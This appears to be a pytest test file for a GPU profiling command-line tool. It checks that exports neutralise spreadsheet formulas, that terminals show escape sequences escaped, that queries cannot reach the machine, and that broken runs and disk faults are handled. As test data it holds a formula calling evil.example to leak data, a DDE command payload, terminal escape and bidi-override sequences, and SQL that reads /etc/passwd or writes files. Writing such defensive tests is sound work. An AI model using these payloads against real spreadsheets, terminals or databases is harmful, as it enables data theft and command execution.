"""Hostile names, broken runs and ordinary system faults (issue 27): exports and terminals stay safe, queries only
read, a broken run never hides or loses the others, and a full disk or a read-only store is said as such. Every
other run of the store stays byte for byte as it was."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

from hroofline.render.terminal import printable
from hroofline.render.text import spreadsheet_safe
from tests.conftest import SHARED, need, run_program, tree_digest

BASE = "v100_gene_dgdxy_time_dram.csv"
SHARED_H100 = SHARED / "fixtures" / "h100"
REAL_KERNEL = (
    "ij_deriv_kernel(int, int, int, thrust::complex<double> const*, int, double const*, "
    "thrust::complex<double> const*, thrust::complex<double>*)"
)
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
ESCAPES = "\x1b]0;owned\x07\x1b[31mred\x1b[0m\u202eevil"


def renamed_source(ncu_dir: Path, tmp_path: Path, new_name: str) -> Path:
    """The real ncu CSV with its first kernel's name replaced (CSV-quoted) by ``new_name``."""
    text = (ncu_dir / BASE).read_text()
    assert REAL_KERNEL in text
    quoted = new_name.replace('"', '""')
    path = tmp_path / "renamed.csv"
    path.write_text(text.replace(f'"{REAL_KERNEL}"', f'"{quoted}"'))
    return path


def other_runs_digest(store: Path, but: str) -> dict[str, str]:
    runs = store / "runs"
    return {p.name: tree_digest(p) for p in sorted(runs.iterdir()) if p.name != f"run={but}" and p.is_dir()}


# ---------------------------------------------------------------- exports and terminals


def test_formula_cells_are_neutralised_in_every_csv_export(cli, ncu_dir: Path, tmp_path: Path) -> None:
    assert cli("import", renamed_source(ncu_dir, tmp_path, FORMULA), "--run", "evil", "--gpu", "v100").code == 0
    exports = {
        "kernels": cli("kernels", "evil", "--format", "csv"),
        "top": cli("top", "evil", "--format", "csv"),
        "query": cli("query", "select kernel, time_s from launches", "--format", "csv"),
    }
    for command, result in exports.items():
        assert result.code == 0, (command, result)
        cells = [cell for row in csv.reader(io.StringIO(result.out)) for cell in row]
        assert "'" + FORMULA in cells, (command, result.out[:500])
        starts = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
        assert starts == [], (command, starts)


def test_spreadsheet_safe_leaves_numbers_alone() -> None:
    names = ["-4.5", "+1e3", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "plain", " =1+2", "\n=1+2", "\uff1d1+2"]
    frame = pd.DataFrame({"name": names, "v": range(len(names))})
    safe = spreadsheet_safe(frame)
    assert list(safe["name"]) == [*names[:2], *("'" + n for n in names[2:5]), "plain", *("'" + n for n in names[6:])]
    assert list(safe["v"]) == list(range(len(names)))
    assert list(frame["name"])[2] == "-cmd|' /C calc'!A0"  # the caller's frame is not changed


def test_escape_sequences_are_shown_escaped(cli, ncu_dir: Path, tmp_path: Path) -> None:
    assert cli("import", renamed_source(ncu_dir, tmp_path, ESCAPES), "--run", "esc", "--gpu", "v100").code == 0
    for args in (("top", "esc"), ("kernels", "esc"), ("kernels", "esc", "--group-by", "name")):
        result = cli(*args)
        assert result.code == 0, result
        for raw in ("\x1b", "\x07", "\u202e"):
            assert raw not in result.out + result.err, args
        assert "\\x1b" in result.out, (args, result.out)
    # A file or a pipe gets the data as it is: the CSV holds the kernel's own name.
    exported = cli("kernels", "esc", "--format", "csv")
    assert ESCAPES in [row[0] for row in csv.reader(io.StringIO(exported.out))]
    assert printable("a\tb\nc\x1b[0m\x9b\u2066") == "a\tb\nc\\x1b[0m\\x9b\\u2066"


# ---------------------------------------------------------------- query reads only


@pytest.mark.parametrize(
    ("sql", "said"),
    [
        ("COPY (SELECT 42) TO '{target}'", "query refused"),
        ("SELECT * FROM read_csv('/etc/hostname')", "query refused"),
        ("SELECT * FROM read_text('/etc/passwd')", "query refused"),
        ("ATTACH '{target}' AS other", "query refused"),
        ("INSTALL httpfs", "query refused"),
        ("SET enable_external_access = true", "query refused"),
        ("EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1", "query refused"),
        ("EXPLAIN ANALYZE DROP VIEW launches", "query refused"),
    ],
)
def test_query_cannot_reach_the_machine(cli, ncu_dir: Path, tmp_path: Path, sql: str, said: str) -> None:
    assert cli("import", ncu_dir / BASE, "--run", "base", "--gpu", "v100").code == 0
    target = tmp_path / "leak.out"
    before = tree_digest(cli.store)
    result = cli("query", sql.format(target=target))
    assert result.code == 1, result
    assert result.err.startswith("hroofline: error: " + said) and result.err.count("\n") == 1, result.err
    assert not target.exists()
    assert tree_digest(cli.store) == before
    assert cli("query", "select count(*) as n from launches").code == 0


# ---------------------------------------------------------------- broken runs


@pytest.fixture
def two_runs(cli, ncu_dir: Path) -> Path:
    for name in ("good", "broken"):
        assert cli("import", ncu_dir / BASE, "--run", name, "--gpu", "v100").code == 0
    return cli.store


def _warned_once(err: str, name: str) -> bool:
    return sum(f"run {name!r}" in line for line in err.splitlines()) == 1


@pytest.mark.parametrize("damage", ["truncated", "deleted"])
def test_a_broken_run_does_not_hide_the_others(cli, two_runs: Path, ncu_dir: Path, damage: str) -> None:
    meta = two_runs / "runs" / "run=broken" / "meta.json"
    if damage == "truncated":
        meta.write_bytes(meta.read_bytes()[:100])
    else:
        meta.unlink()
    kept = sorted((two_runs / "runs" / "run=broken").glob("launches-*.parquet"))
    good = other_runs_digest(two_runs, "broken")

    listed = cli("runs", "--format", "json")
    assert listed.code == 0, listed
    assert [row["run"] for row in json.loads(listed.out)] == ["good"]
    assert _warned_once(listed.err, "broken") and "rm broken" in listed.err, listed.err
    queried = cli("query", "select run, count(*) as n from launches group by run", "--format", "csv")
    assert queried.code == 0 and "good,8" in queried.out and _warned_once(queried.err, "broken"), queried

    # An import that is not told to replace the run must not delete its launches, the only copy maybe.
    refused = cli("import", ncu_dir / BASE, "--run", "broken", "--gpu", "v100")
    assert refused.code == 1 and "--replace" in refused.err and refused.err.count("\n") == 1, refused
    assert sorted((two_runs / "runs" / "run=broken").glob("launches-*.parquet")) == kept

    removed = cli("rm", "broken")
    assert removed.code == 0, removed
    assert not (two_runs / "runs" / "run=broken").exists()
    assert other_runs_digest(two_runs, "broken") == good


def test_replace_writes_over_a_broken_run(cli, two_runs: Path, ncu_dir: Path) -> None:
    (two_runs / "runs" / "run=broken" / "meta.json").write_text("{")
    good = other_runs_digest(two_runs, "broken")
    result = cli("import", ncu_dir / BASE, "--run", "broken", "--gpu", "v100", "--replace")
    assert result.code == 0, result
    assert cli("summary", "broken").code == 0
    assert other_runs_digest(two_runs, "broken") == good


def test_a_killed_writes_temporary_file_is_swept_by_the_next_write(cli, two_runs: Path, ncu_dir: Path) -> None:
    folder = two_runs / "runs" / "run=broken"
    leftovers = [folder / ".launches-0123456789ab.parquet.tmp", folder / ".meta.json.tmp"]
    for path in leftovers:
        path.write_bytes(b"\0" * 1_000_000)  # what kill -9 in the middle of a write leaves
    good = other_runs_digest(two_runs, "broken")
    result = cli("import", ncu_dir / "v100_gene_dgdxy_dpflops.csv", "--run", "broken", "--replace")
    assert result.code == 0, result
    assert [p for p in leftovers if p.exists()] == []
    assert other_runs_digest(two_runs, "broken") == good


def _wait_until_waiting(lock: Path, waiters: int, processes: list[subprocess.Popen[str]]) -> None:
    """Until ``waiters`` processes wait on the flock of ``lock`` (Linux lists each blocked request in /proc/locks,
    marked "->", with the file's inode): a process is seen waiting, not given a time to get there. Without
    /proc/locks (not Linux), given the time: 2.5 s."""
    if not Path("/proc/locks").exists():
        time.sleep(2.5)
        return
    inode = f":{lock.stat().st_ino} "
    deadline = time.monotonic() + 120
    while sum("->" in line and inode in line for line in Path("/proc/locks").read_text().splitlines()) < waiters:
        ended = [process.args for process in processes if process.poll() is not None]
        assert not ended and time.monotonic() < deadline, f"not waiting on {lock}: {ended or 'after 120 s'}"
        time.sleep(0.05)


def test_remove_during_an_import_never_fails_inside(ncu_dir: Path, tmp_path: Path) -> None:
    """`rm` and `import` of one run started together, twice: each ends with exit 0, the run is either gone or
    whole, and the other run is untouched. The run's lock is held while both start, so that both wait on it: rm
    first (it takes the run away before the import can write), then the import, having parsed its file. Seen
    waiting in that order, they are woken in it: an import that wrote into the folder rm took away failed on the
    first attempt (with locked_run_folder's check of the lock's file taken out)."""
    import fcntl

    store = tmp_path / "store"
    for name in ("good", "busy"):
        assert run_program("import", ncu_dir / BASE, "--run", name, "--gpu", "v100", "--store", store).code == 0
    good = other_runs_digest(store, "busy")
    for attempt in range(2):
        if not (store / "runs" / "run=busy").exists():
            assert run_program("import", ncu_dir / BASE, "--run", "busy", "--gpu", "v100", "--store", store).code == 0
        lock_path = store / "runs" / "run=busy" / ".lock"
        with lock_path.open("a") as lock:
            fcntl.flock(lock, fcntl.LOCK_EX)
            command = [sys.executable, "-m", "hroofline"]
            pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}
            removing = subprocess.Popen([*command, "rm", "busy", "--store", str(store)], **pipes)  # type: ignore[call-overload]
            _wait_until_waiting(lock_path, 1, [removing])
            importing = subprocess.Popen(  # type: ignore[call-overload]
                [*command, "import", str(ncu_dir / BASE), "--run", "busy", "--replace", "--store", str(store)], **pipes
            )
            _wait_until_waiting(lock_path, 2, [removing, importing])
            fcntl.flock(lock, fcntl.LOCK_UN)
        for process in (importing, removing):
            _, err = process.communicate(timeout=120)
            assert process.returncode == 0, (attempt, err)
            assert "internal error" not in err and "Traceback" not in err, err
        if (store / "runs" / "run=busy").exists():
            assert run_program("summary", "busy", "--store", store).code == 0
        assert other_runs_digest(store, "busy") == good


def test_a_run_name_is_matched_whole(cli, ncu_dir: Path) -> None:
    result = cli("import", ncu_dir / BASE, "--run", "evil\n", "--gpu", "v100")
    assert result.code == 2 and "invalid run name" in result.err, result
    assert not (cli.store / "runs").exists() or list((cli.store / "runs").iterdir()) == []


# ---------------------------------------------------------------- system faults, said as such


def _in_child(args: list[object], preexec: Callable[[], None] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "hroofline", *map(str, args)],
        capture_output=True,
        text=True,
        preexec_fn=preexec,
        timeout=300,
    )


def _one_error_line(result: subprocess.CompletedProcess[str], *said: str) -> None:
    assert result.returncode == 1, result
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("hroofline: error: "), result.stderr
    assert "internal error" not in result.stderr
    for words in said:
        assert words in result.stderr, result.stderr


def test_a_full_disk_is_said_as_such(ncu_dir: Path, tmp_path: Path) -> None:
    store = tmp_path / "store"
    assert run_program("import", ncu_dir / BASE, "--run", "good", "--gpu", "v100", "--store", store).code == 0
    good = tree_digest(store)

    def small_files() -> None:  # no file the child writes may pass 2 kB: a disk that fills up
        resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))

    big = ncu_dir / "v100_gene_dgdxy_flop_dp.csv"
    result = _in_child(
        ["import", big if big.exists() else ncu_dir / BASE, "--run", "full", "--store", store], small_files
    )
    _one_error_line(result, "cannot write", "run 'full'")
    assert tree_digest(store) == good


def _make_read_only(folders: list[Path], on: bool) -> None:
    """chmod for a user; root writes anywhere, so for root the folders are made immutable (chattr +i) instead."""
    if os.geteuid() != 0:
        for folder in folders:
            folder.chmod(0o555 if on else 0o755)
        return
    done = subprocess.run(["chattr", "+i" if on else "-i", *map(str, folders)], capture_output=True, text=True)
    if done.returncode != 0 and on:
        pytest.fail(f"cannot make a read-only folder as root: chattr says {done.stderr.strip()}")


def test_a_read_only_store_is_said_as_such(ncu_dir: Path, tmp_path: Path) -> None:
    store = tmp_path / "store"
    assert run_program("import", ncu_dir / BASE, "--run", "good", "--gpu", "v100", "--store", store).code == 0
    before = tree_digest(store)
    folders = [store, *(p for p in store.rglob("*") if p.is_dir())]
    _make_read_only(folders, on=True)
    try:
        result = _in_child(["import", ncu_dir / BASE, "--run", "more", "--gpu", "v100", "--store", store])
        _one_error_line(result, "not permitted")
        readable = _in_child(["summary", "good", "--store", store])
        assert readable.returncode == 0, readable.stderr
    finally:
        _make_read_only(folders, on=False)
    assert tree_digest(store) == before


@pytest.mark.parametrize("kind", ["dangling link", "regular file", "below a file"])
def test_a_store_that_is_not_a_folder(cli, ncu_dir: Path, tmp_path: Path, kind: str) -> None:
    store = tmp_path / "not-a-store"
    if kind == "dangling link":
        store.symlink_to(tmp_path / "gone")
    elif kind == "regular file":
        store.write_text("x")
    else:
        store.write_text("x")
        store = store / "store"
    for args in (("runs",), ("import", ncu_dir / BASE, "--run", "r", "--gpu", "v100")):
        result = cli(*args, store_dir=store)
        assert result.code == 1 and result.err.count("\n") == 1, result
        assert "internal error" not in result.err and "not-a-store" in result.err, result.err
    assert not (tmp_path / "gone").exists()


def test_a_killed_import_of_a_compressed_report_leaves_nothing(tmp_path: Path) -> None:
    """A compressed .ncu-rep is written out for NVIDIA's reader, which opens paths only: to a file without a name,
    so that kill -9 in the middle leaves nothing in the temp folder (it left a copy of the report, 137 MB for
    resnet34)."""
    import signal

    source = need(SHARED_H100 / "gemm-calibration-base-clock.ncu-rep.xz")
    temp = tmp_path / "tmp"
    temp.mkdir()
    command = [sys.executable, "-m", "hroofline", "import", str(source), "--run", "r", "--store", str(tmp_path / "s")]
    child = subprocess.Popen(command, env={**os.environ, "TMPDIR": str(temp)}, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while child.poll() is None and time.monotonic() < deadline:
        opened = _open_files(child.pid)
        # the report's copy: a file without a name (now), or a hroofline-* folder (before); not Python's own probe
        # of the temp folder (a few bytes under a random name, gone at once)
        copy = [t for t in opened if str(temp) in t and ("(deleted)" in t or "hroofline-" in t)]
        if copy or any(p.name.startswith("hroofline-") for p in temp.iterdir()):
            child.send_signal(signal.SIGKILL)  # while the report is written out or read
            break
        time.sleep(0.005)
    child.wait(timeout=60)
    assert child.returncode == -signal.SIGKILL, "the import ended before it could be killed"
    left = [p for p in temp.rglob("*") if p.name.startswith("hroofline-") or (p.is_file() and p.stat().st_size > 1024)]
    assert left == []


def _open_files(pid: int) -> list[str]:
    """What a process has open now (a descriptor may close while it is read)."""
    targets = []
    try:
        descriptors = list(Path(f"/proc/{pid}/fd").iterdir())
    except OSError:
        return targets
    for descriptor in descriptors:
        try:
            targets.append(os.readlink(descriptor))
        except OSError:
            continue
    return targets


def test_two_removals_of_one_run_behind_an_import(ncu_dir: Path, tmp_path: Path) -> None:
    """Two `rm` of one run that both wait on its lock: one removes it, the other says it is gone, in one line."""
    import fcntl

    store = tmp_path / "store"
    for name in ("good", "busy"):
        assert run_program("import", ncu_dir / BASE, "--run", name, "--gpu", "v100", "--store", store).code == 0
    good = other_runs_digest(store, "busy")
    command = [sys.executable, "-m", "hroofline", "rm", "busy", "--store", str(store)]
    lock_path = store / "runs" / "run=busy" / ".lock"
    with lock_path.open("a") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        removals = [subprocess.Popen(command, stderr=subprocess.PIPE, text=True) for _ in range(2)]
        _wait_until_waiting(lock_path, 2, removals)  # both have checked the run is there and wait on its lock
        fcntl.flock(lock, fcntl.LOCK_UN)
    results = sorted((p.wait(timeout=120), p.stderr.read()) for p in removals)  # type: ignore[union-attr]
    assert [code for code, _ in results] == [0, 1], results
    assert "no run named 'busy'" in results[1][1] and results[1][1].count("\n") == 1, results
    assert "internal error" not in results[1][1]
    assert not (store / "runs" / "run=busy").exists()
    assert other_runs_digest(store, "busy") == good


def test_a_run_of_a_newer_hroofline_is_not_offered_for_removal(cli, two_runs: Path) -> None:
    meta = two_runs / "runs" / "run=broken" / "meta.json"
    meta.write_text(json.dumps({**json.loads(meta.read_text()), "schema_version": 99}))
    listed = cli("runs")
    assert listed.code == 0 and "upgrade hroofline" in listed.err and "rm broken" not in listed.err, listed
